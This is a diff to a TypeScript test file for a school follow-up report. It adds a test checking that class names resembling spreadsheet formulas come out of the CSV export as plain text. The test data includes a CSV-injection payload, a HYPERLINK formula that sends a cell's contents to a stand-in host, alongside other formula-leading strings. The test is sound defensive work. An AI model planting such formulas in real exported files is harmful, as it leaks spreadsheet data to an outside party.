@@ -5,6 +5,7 @@ import { parseMetrics } from '../../src/console/parse';
 import { blockedIn, chaseTargets, followUpRows, metricsGap, lastHandoutDay, mailable, percent, totalOf } from '../../src/model/follow-up';
 import { addSnapshot, countsOf, prune, sanitizeHistory, trendOf, type Snapshot } from '../../src/model/follow-up-history';
 import { summaryCsv, summaryTable } from '../../src/model/follow-up-summary';
+import { csvField as reportCsvField } from '../../src/campaign/report';
 import { isPlural, ofName, shortDay, trendSentence } from '../../src/i18n/follow-up';
 import { translator } from '../../src/i18n/ui';
 import { renderSummary, summaryStyle } from '../../src/pdf/summary';
@@ -182,6 +183,24 @@ test('summary table and CSV: counts and % per row and in total, no name, no logi
   expect(csv.split('\r\n')[1]).toBe(`"CP A";"4";"2";"${pct(2, 4).replace(' %', '')}";"1 / 3";"1 / 1";"1";"0";"1"`);
   expect(csv.split('\r\n')[3]).toBe('"Personnels";"0";"0";"";"—";"—";"0";"0";"0"');
   for (const a of accounts) for (const s of [a.id, a.lastName, a.login, a.activationCode ?? 'none-left']) expect(csv).not.toContain(s);
+});
+
+test('summary CSV: a class name that looks like a formula is written as text, by the mail report’s own field writer', () => {
+  // Class names come from the directory: an import (or a hostile admin) can name a class anything.
+  const hostile = ['=HYPERLINK("https://evil.example/?"&A1;"CP")', '+CE1 A', '-CM2', '@SUM(A1:A9)', '\tCE2', '\rCM1'];
+  const classes = hostile.map((name) => ({ id: `cls-${name}`, name }));
+  const accounts = hostile.map((n) => acc('Student', [n]));
+  const csv = summaryCsv(followUpRows(accounts, classes, emptyLog('s')), 'fr');
+  const firstCells = csv.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1).map((l) => l.slice(0, l.indexOf('";"') + 1));
+  for (const name of hostile) {
+    // The cell a spreadsheet shows: the name behind a leading apostrophe, quotes doubled; never a formula.
+    const cell = `"'${name.replace(/"/g, '""')}"`;
+    expect(firstCells, name).toContain(cell);
+    expect(cell).toBe(reportCsvField(name));
+  }
+  // No cell of the file starts with a formula character once unquoted.
+  for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean))
+    for (const c of line.slice(1, -1).split('";"')) expect(c, line).not.toMatch(/^[=+\-@\t\r]/);
 });
 
 test('summary PDF: one page even for a big school (60 classes), the table read back by pdftotext, no warning', async () => {
